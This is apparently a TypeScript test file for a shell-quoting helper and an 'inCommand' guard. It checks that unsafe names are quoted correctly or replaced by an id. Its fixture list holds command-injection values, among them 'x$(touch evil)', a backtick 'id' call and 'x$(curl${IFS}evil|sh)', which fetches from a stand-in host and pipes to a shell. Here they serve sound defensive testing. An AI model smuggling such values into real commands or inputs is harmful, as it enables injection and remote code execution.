import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { test } from 'node:test'
import { inCommand, quoted } from './shell.ts'

const NAMES = [
  'x$(touch evil)',
  'a`id`',
  "it's",
  'a b',
  '!!',
  '--all',
  '-f',
  '',
  'a;b',
  'a\nb',
  'x$(curl${IFS}evil|sh)',
  'plain-1.x',
]

test('a shell takes a quoted word for what it is', () => {
  for (const name of NAMES) {
    assert.equal(execFileSync('sh', ['-c', `printf %s ${quoted(name)}`], { encoding: 'utf8' }), name)
  }
})

test('a name that a shell or a command could misread is not in a command; the id is', () => {
  assert.equal(inCommand('plain-1.x', 'id'), 'plain-1.x')
  for (const name of [...NAMES.slice(0, -1), null, undefined]) assert.equal(inCommand(name, 'id'), 'id')
})
